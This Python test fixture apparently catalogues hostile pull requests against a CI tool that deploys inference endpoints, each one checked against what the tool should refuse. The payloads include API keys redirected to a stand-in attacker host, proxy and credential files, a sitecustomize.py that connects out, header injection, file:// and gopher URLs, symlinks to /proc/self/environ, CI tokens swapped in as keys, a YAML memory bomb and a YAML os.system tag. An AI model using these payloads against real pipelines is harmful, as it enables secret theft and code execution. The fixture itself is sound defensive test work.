"""What strangers send as pull requests: the files of each attack, by what they want. `{trap}` is their address.

`scope: search-team` and one endpoint of cohere stand in the repository that they change.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

SETTINGS = 'scope: search-team\nendpoints: ["endpoints/*.yaml"]\n'


def endpoint(
    service: str = "cohere",
    task_type: str = "rerank",
    settings: str = "model_id: m",
    more: str = "",
    name: str = "search-a",
) -> str:
    return (
        f"inference_id: {name}\ntask_type: {task_type}\nservice: {service}\n"
        f"service_settings: {{{settings}, api_key: {{env: COHERE_API_KEY}}}}\n{more}"
    )


GOOD = endpoint()


@dataclass(frozen=True)
class PullRequest:
    """`settings` and `endpoint` in the place of those that are there; `files` beside them, `links` from name to target.

    `is_passed_over`: what it brings is not looked at, so that the plan is made. Else it is refused.
    """

    wants: str
    settings: str = SETTINGS
    endpoint: str = GOOD
    files: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    is_passed_over: bool = False

    def write(self, checkout: Path, trap: str) -> None:
        texts = {"inferctl.yaml": self.settings, "endpoints/search-a.yaml": self.endpoint, **self.files}
        (checkout / ".git").mkdir(parents=True)
        for name, text in texts.items():
            (checkout / name).parent.mkdir(parents=True, exist_ok=True)
            (checkout / name).write_text(text.replace("{trap}", trap), encoding="utf-8")
        for name, target in self.links.items():
            (checkout / name).parent.mkdir(parents=True, exist_ok=True)
            (checkout / name).symlink_to(target)


def _connection(wants: str, connection: str, *, is_passed_over: bool = False) -> PullRequest:
    return PullRequest(wants, f"{SETTINGS}connection:\n{connection}", is_passed_over=is_passed_over)


def _settings(wants: str, text: str) -> PullRequest:
    return PullRequest(wants, text)


def _host(wants: str, text: str) -> PullRequest:
    return PullRequest(wants, endpoint=text)


_CUSTOM = (
    "inference_id: search-a\ntask_type: completion\nservice: custom\nservice_settings:\n"
    "  secret_parameters: {{api_key: {{env: COHERE_API_KEY}}}}\n  url: {url}\n  headers: {headers}\n"
    "  request: '{{\"input\": ${{input}}}}'\n  response: {{json_parser: {{completion_result: $.r}}}}\n"
)
_OPENAI = "model_id: m, url: '%s'"

PULL_REQUESTS = (
    # Another cluster, or the key of one.
    _settings(
        "an environment of his, which the job does not name",
        f"{SETTINGS}environments:\n  his: {{connection: {{url: 'http://{{trap}}'}}}}\n",
    ),
    _host("the key of an environment as a secret", GOOD.replace("COHERE_API_KEY", "INFERCTL_PROD_API_KEY")),
    # The key of the cluster.
    _connection("the key at an address of his", "  url: http://{trap}\n", is_passed_over=True),
    _connection("the key, with TLS", "  url: https://{trap}\n", is_passed_over=True),
    _connection("another certificate for the cluster", f"  ca_fingerprint: {'ab' * 32}\n"),
    _connection("another CA for the cluster", "  ca_certs: mine.pem\n"),
    _connection("no check of the cluster's certificate", "  insecure: true\n"),
    _connection("a password in the address", "  url: https://elastic:x@{trap}\n"),
    PullRequest(
        "credentials and proxies from files of the tree",
        files={
            ".netrc": "default login a password b\n",
            ".env": "HTTPS_PROXY=http://{trap}\nELASTICSEARCH_URL=http://{trap}\n",
            ".curlrc": "proxy = {trap}\n",
            "pip.conf": "[global]\nproxy = {trap}\n",
        },
        is_passed_over=True,
    ),
    PullRequest(
        "modules of the tree run in the job",
        files={
            "sitecustomize.py": "import socket; socket.create_connection(('{trap}'.split(':')[0], int('{trap}'.split(':')[1])))",
            "inferctl/__init__.py": "raise SystemExit('taken')",
            "httpx.py": "raise SystemExit('taken')",
        },
        is_passed_over=True,
    ),
    # What other teams own.
    _settings("what another scope owns", SETTINGS.replace("search-team", "billing-team")),
    _settings("no scope, and all that there is", 'manage: ["*"]\nallow: [delete]\nendpoints: ["endpoints/*.yaml"]\n'),
    _settings("deletes", f"{SETTINGS}allow: [delete]\nlimits: {{max_deletes: 100%}}\n"),
    _settings("replaces", f"{SETTINGS}allow: [replace]\n"),
    PullRequest("higher limits, below those of the operator", f"{SETTINGS}limits: {{max_deletes: 100%}}\n", is_passed_over=True),
    _settings("an endpoint of others by a permit", f"{SETTINGS}permits: [{{take_over: search-a, reason: mine}}]\n"),
    _host("an endpoint outside of what is ours", endpoint(name="billing-a")),
    # Keys of the providers, after a merge.
    _host("a key at a host of his", endpoint("openai", "completion", _OPENAI % "https://{trap}/v1")),
    _host("a key without encryption", endpoint("openai", "completion", _OPENAI % "http://api.openai.com/v1")),
    _host("a request by another protocol", endpoint("openai", "completion", _OPENAI % "gopher://api.openai.com/1")),
    _host("a file of the server", endpoint("openai", "completion", _OPENAI % "file://api.openai.com/etc/passwd")),
    _host("a service that nobody knows", endpoint("evilai", settings="baseUrl: 'http://{trap}'", more="passthrough: true\n")),
    _host("a setting that nobody knows", endpoint(settings="model_id: m, gateway: '{trap}'", more="passthrough: true\n")),
    _host(
        "a host in the region of Bedrock",
        "inference_id: search-a\ntask_type: completion\nservice: amazonbedrock\nservice_settings: {region: '{trap}/#', "
        "model: m, provider: anthropic, access_key: {env: COHERE_API_KEY}, secret_key: {env: COHERE_API_KEY}}\n",
    ),
    _host(
        "a host in the resource name of Azure",
        endpoint("azureopenai", "completion", "resource_name: '{trap}/', deployment_id: d, api_version: '2024-10-21'"),
    ),
    _host(
        "a host in the location of Vertex AI",
        "inference_id: search-a\ntask_type: text_embedding\nservice: googlevertexai\nservice_settings: {location: '{trap}/', "
        "project_id: p, model_id: m, service_account_json: {env: COHERE_API_KEY}}\n",
    ),
    _host("another Host header", _CUSTOM.format(url="https://api.cohere.ai/v1", headers="{Host: '{trap}'}")),
    _host("a header inside of a header", _CUSTOM.format(url="https://api.cohere.ai", headers='{"A\\r\\nHost": "{trap}"}')),
    _host("a host made of a template", _CUSTOM.format(url="https://${api_key:-{trap}}/v1", headers="{}")),
    # Other secrets of the job.
    *(
        _host(f"{name} as a key", GOOD.replace("COHERE_API_KEY", name))
        for name in ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ELASTICSEARCH_API_KEY", "elasticsearch_api_key", "AWS_SECRET_ACCESS_KEY")
    ),
    _host("a file of the job as a key", GOOD.replace("{env: COHERE_API_KEY}", "{file: /proc/self/environ}")),
    _host("a secret in the clear", GOOD.replace("{env: COHERE_API_KEY}", "sk-1234567890abcdef")),
    # Files outside of the repository.
    _settings("files of the machine by a glob", 'scope: search-team\nendpoints: ["/etc/*", "../../*.yaml"]\n'),
    PullRequest("a file of the machine by a link", links={"endpoints/b.yaml": "/etc/hostname"}),
    PullRequest("the settings of another", links={"endpoints/c.yaml": "/proc/self/environ"}),
    # The job itself.
    _host("all the memory", "a: &a [x,x,x,x,x,x,x,x]\n" + "".join(f"{c}: &{c} [{','.join([f'*{b}'] * 8)}]\n" for b, c in zip("abcdefgh", "bcdefghi", strict=True))),
    _host("code in a tag of YAML", "!!python/object/apply:os.system ['true']\n"),
)  # fmt: skip
